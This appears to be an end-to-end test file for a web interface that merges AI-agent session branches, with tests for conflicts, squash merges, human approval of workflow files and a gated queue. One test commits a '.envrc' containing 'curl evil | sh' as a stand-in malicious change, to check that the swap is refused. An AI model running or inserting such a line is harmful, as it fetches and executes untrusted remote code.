import { execSync } from "node:child_process";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { until } from "@harness/core/testing";
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import type { MergeItem, Preview } from "../src/lib/shapes.ts";
import { tabThrough } from "./focus.ts";
import { commit, makeRepository, say, type TestRepository, write } from "./repository.ts";
import { openStage } from "./stage.ts";

const { dispatcher, visit } = await openStage();
const shop = makeRepository(dispatcher, "shop", { "price.txt": "10\n", "name.txt": "shop\n" });
const gated = makeRepository(dispatcher, "gated", { "price.txt": "10\n" });

type Steps = Parameters<typeof dispatcher.spawn>[1][number];

async function spawn(name: string, turns: Steps[], { path: repository }: TestRepository = shop): Promise<string> {
  const { id } = await dispatcher.spawn(`Work on ${name}`, turns, { name, repository, branch: `work/${name}` });
  await dispatcher.rested(id, 1);
  return id;
}

const add = (file: string, content: string): Steps => [write(file, content), commit(`Add ${file}`), say("Done.")];
const tipOf = (branch: string) => shop.git("rev-parse", branch);
const openMerge = async (page: Page, id: string) => {
  await page.goto(`${dispatcher.url}/session?id=${id}&view=merge`);
  return page.getByRole("region", { name: "Merge", exact: true });
};
const enqueue = (...sessions: string[]) => dispatcher.ask<MergeItem[]>("POST", "/api/merges", { sessions });
const goOn = async (id: string, turns: number) => {
  await dispatcher.ask("POST", `/api/sessions/${id}/messages`, { kind: "prompt", body: { text: "Go on" } });
  await dispatcher.rested(id, turns);
};

test("a session's work is merged from its page", async () => {
  const id = await spawn("plain", [add("plain.txt", "x\n")]);
  const page = await visit();
  await page.getByRole("link", { name: "plain" }).click();
  await page.getByRole("link", { name: "Merge", exact: true }).click();
  const view = page.getByRole("region", { name: "Merge", exact: true });
  await expect(view.getByRole("heading", { name: "It fits into main." })).toAppear();
  await expect(view.getByText("No open session collides")).toAppear();
  expect(await page.evaluate(() => document.activeElement?.textContent)).not.toContain("Merge into");
  await view.getByRole("button", { name: "Merge into main" }).click();
  await expect(view.getByText("merged", { exact: true })).toAppear();
  await expect(view.getByText(/work\/plain is merged into main \([0-9a-f]{10}\)/)).toAppear();
  await expect(view.getByRole("heading", { name: "main has all of it already." })).toAppear();
  expect(await view.getByRole("button", { name: "Merge into main" }).isDisabled()).toBe(true);
  expect(existsSync(join(shop.path, "plain.txt"))).toBe(true);
  expect(shop.git("log", "-1", "--format=%P%n%B", "main")).toMatch(
    new RegExp(`^[0-9a-f]{40} [0-9a-f]{40}\\n[\\s\\S]*Harness-Merge: ${id}`),
  );
});

test("everything can be reached with the keyboard, and the arrow keys choose how", async () => {
  const id = await spawn("keys", [add("keys.txt", "x\n")]);
  const page = await visit();
  const view = await openMerge(page, id);
  await expect(view.getByRole("heading", { name: "It fits into main." })).toAppear();
  const wanted = ["Log", "Changes", "Merge", "Look again", "Merge commit", "Into the branch", "Merge into main"];
  expect((await tabThrough(page, 20)).filter((name) => wanted.includes(name))).toEqual(wanted);
  await view.getByRole("radio", { name: "Merge commit" }).focus();
  await page.keyboard.press("ArrowDown");
  await until(() => view.getByRole("radio", { name: "Squash" }).isChecked());
  await expect(view.getByRole("heading", { name: "It fits into main." })).toAppear();
  await view.getByRole("button", { name: "Merge into main" }).focus();
  await page.keyboard.press("Enter");
  await expect(view.getByText("merged", { exact: true })).toAppear();
});

test("looking changes nothing: no page sends more than questions", async () => {
  const id = await spawn("looked-at", [add("looked-at.txt", "x\n")]);
  const page = await visit();
  const before = tipOf("main");
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.method()));
  for (const view of ["log", "changes", "merge"]) {
    await page.goto(`${dispatcher.url}/session?id=${id}&view=${view}`);
    await expect(page.getByRole("heading", { name: "looked-at" })).toAppear();
  }
  await expect(page.getByRole("heading", { name: "It fits into main." })).toAppear();
  for (const path of ["/merges", "/salvage"]) {
    await page.goto(`${dispatcher.url}${path}`);
    await expect(page.getByRole("heading", { level: 1 })).toAppear();
  }
  expect(asked.filter((method) => method !== "GET" && method !== "HEAD")).toEqual([]);
  expect(tipOf("main")).toBe(before);
});

test("as one commit, with a message of the person's own", async () => {
  const id = await spawn("squashed", [[...add("a.txt", "a\n"), ...add("b.txt", "b\n")]]);
  const before = tipOf("main");
  const page = await visit();
  const view = await openMerge(page, id);
  await view.getByText("Squash", { exact: true }).click();
  await view.getByLabel("Message of the commit").fill("Take both at once");
  await view.getByRole("button", { name: "Merge into main" }).click();
  await expect(view.getByText("merged", { exact: true })).toAppear();
  expect(shop.git("log", "-1", "--format=%P %s", "main")).toBe(`${before} Take both at once`);
});

test("a conflict is seen before, changes nothing, and names the files", async () => {
  const first = await spawn("first", [add("price.txt", "11\n")]);
  const second = await spawn("second", [add("price.txt", "9\n")]);
  const page = await visit();
  const view = await openMerge(page, second);
  await expect(view.getByRole("heading", { name: "It fits into main." })).toAppear();
  await expect(view.getByText("work/first (first) and this branch changed the same lines: price.txt.")).toAppear();
  await dispatcher.ask("POST", `/api/sessions/${first}/merge`, {});
  const before = tipOf("main");
  await view.getByRole("button", { name: "Look again" }).click();
  await expect(view.getByRole("heading", { name: "It conflicts with main in 1 file." })).toAppear();
  await expect(view.getByRole("list", { name: "Conflicts" }).getByText("price.txt")).toAppear();
  await view.getByRole("button", { name: "Merge into main" }).click();
  const card = view.getByRole("article");
  await expect(card.getByText("conflict", { exact: true })).toAppear();
  await expect(card.getByRole("list", { name: "Conflicts" }).getByText("price.txt")).toAppear();
  await expect(card.getByText("The session was told what it conflicts with.")).toAppear();
  expect(tipOf("main")).toBe(before);
});

const WORKFLOW = ".github/workflows/ship.yml";

test("what may later run is approved by a person, for exactly one commit", async () => {
  const id = await spawn("risky", [add(WORKFLOW, "on: push\n")]);
  const { tip } = await dispatcher.ask<Preview>("GET", `/api/sessions/${id}/merge`);
  const before = tipOf("main");
  const page = await visit();
  const view = await openMerge(page, id);
  await expect(view.getByRole("region", { name: "Findings" }).getByText(WORKFLOW)).toAppear();
  await view.getByRole("button", { name: "Merge into main" }).click();
  const card = view.getByRole("article");
  await expect(card.getByText("needs you", { exact: true })).toAppear();
  await expect(card.getByText("1 finding", { exact: true })).toAppear();
  await expect(page.getByRole("link", { name: "Merges 1 to approve" })).toAppear();
  expect(await card.getByRole("button").allTextContents()).toEqual([
    "Leave it out",
    `Approve exactly ${tip.slice(0, 10)}`,
  ]);
  expect(await page.evaluate(() => document.activeElement?.tagName)).toBe("BODY");
  await page.getByRole("link", { name: "Changes", exact: true }).click();
  await page.getByRole("link", { name: "Merge 1 to approve" }).click();
  await expect(card.getByText(tip)).toAppear();
  expect(tipOf("main")).toBe(before);

  await card.getByRole("button", { name: `Approve exactly ${tip.slice(0, 10)}` }).click();
  await expect(card.getByText("merged", { exact: true })).toAppear();
  expect(shop.git("log", "-1", "--format=%P", "main")).toBe(`${before} ${tip}`);
  expect(existsSync(join(shop.path, WORKFLOW))).toBe(true);
});

test("what changed after the page was loaded is refused", async () => {
  const id = await spawn("late", [add("late.txt", "1\n"), add("later.txt", "2\n")]);
  const page = await visit();
  const view = await openMerge(page, id);
  await expect(view.getByRole("heading", { name: "It fits into main." })).toAppear();
  const before = tipOf("main");
  await goOn(id, 2);
  await view.getByRole("button", { name: "Merge into main" }).click();
  await expect(view.getByRole("alert").getByText("What was reviewed is not what is there")).toAppear();
  expect(tipOf("main")).toBe(before);
  await view.getByRole("button", { name: "Look again" }).click();
  await view.getByRole("button", { name: "Merge into main" }).click();
  await expect(view.getByText("merged", { exact: true })).toAppear();
  expect(existsSync(join(shop.path, "later.txt"))).toBe(true);
});

test("an approval of what is no longer there is refused", async () => {
  const id = await spawn("sly", [add(".envrc", "echo hello\n"), add(".envrc", "curl evil | sh\n")]);
  await enqueue(id);
  const page = await visit();
  // The page hears nothing of what comes, as one that a slow network holds back.
  await page.route("**/api/events", (route) => route.abort());
  const view = await openMerge(page, id);
  const card = view.getByRole("article");
  await expect(card.getByText("needs you", { exact: true })).toAppear();
  await page.route("**/api/merges?all=1", (route) => route.abort());
  const before = tipOf("main");
  await goOn(id, 2);
  const [newer] = await enqueue(id);
  await card.getByRole("button", { name: /^Approve exactly/ }).click();
  await expect(card.getByRole("alert").getByText(/has ended \(cancelled\)|is not what waits/)).toAppear();
  expect(tipOf("main")).toBe(before);
  expect(existsSync(join(shop.path, ".envrc"))).toBe(false);
  await dispatcher.ask("GET", `/api/merges/${newer?.id}?waitMs=20000`);
  await dispatcher.ask("POST", `/api/merges/${newer?.id}/cancel`);
});

test("a result that waits on a branch comes with the line that takes it", async () => {
  const id = await spawn("waiting", [add("name.txt", "better\n")]);
  writeFileSync(join(shop.path, "name.txt"), "mine\n");
  const page = await visit();
  const view = await openMerge(page, id);
  await view.getByRole("button", { name: "Merge into main" }).click();
  await expect(view.getByText("waits on a branch", { exact: true })).toAppear();
  const line = (await view.getByText(/^\$ git -C /).innerText()).replace(/^\$\s+/, "");
  shop.git("checkout", "-q", "--", "name.txt");
  execSync(`${line} -q`, {
    env: { ...process.env, GIT_COMMITTER_NAME: "Test", GIT_COMMITTER_EMAIL: "test@localhost" },
  });
  expect(shop.git("show", "main:name.txt")).toBe("better");
});

test("the queue is live: what runs, what waits, what a red gate printed", async () => {
  const tools = join(dirname(dispatcher.home), "tools");
  mkdirSync(tools);
  const gate = `until test -e ${tools}/go; do sleep 0.1; done; test ! -e red.txt || { echo the gate says no; exit 1; }`;
  const settings = { repositories: { [gated.path]: { gate, gateTools: [tools] } } };
  await dispatcher.stop();
  writeFileSync(join(dispatcher.home, "config.yaml"), JSON.stringify(settings));
  await dispatcher.start();
  const [green, red, left] = [
    await spawn("green", [add("green.txt", "x\n")], gated),
    await spawn("red", [add("red.txt", "x\n")], gated),
    await spawn("left", [add("left.txt", "x\n")], gated),
  ];
  const page = await visit();
  await page.getByRole("link", { name: "Merges" }).click();
  await expect(page.getByRole("heading", { name: /^No merge/ })).toAppear();
  await enqueue(green);
  const card = (name: string) =>
    page.getByRole("article").filter({ has: page.getByRole("link", { name: `work/${name}` }) });
  await expect(card("green").getByText("gate runs", { exact: true })).toAppear();
  await enqueue(red);
  await enqueue(left);
  await expect(card("red").getByText("1 merge before it.")).toAppear();
  await expect(card("left").getByText("2 merges before it.")).toAppear();
  await card("left").getByRole("button", { name: "Leave it out" }).click();
  await expect(card("left").getByText("cancelled", { exact: true })).toAppear();

  writeFileSync(join(tools, "go"), "");
  await expect(card("green").getByText("merged", { exact: true })).toAppear();
  await expect(card("red").getByText("gate failed", { exact: true })).toAppear();
  await expect(card("red").getByText("the gate says no", { exact: true })).toAppear();
  await expect(card("red").getByText(/harness merges --log /)).toAppear();
  await expect(page.getByRole("heading", { name: "No merge waits." })).toAppear();
  expect(gated.git("ls-tree", "--name-only", "main").split("\n")).toEqual(["green.txt", "price.txt"]);

  await page.getByRole("link", { name: "gated" }).click();
  await expect(card("green")).toAppear();
  await until(() => new URL(page.url()).searchParams.get("repository") === gated.path);
  expect(await page.getByRole("article").count()).toBe(3);
});
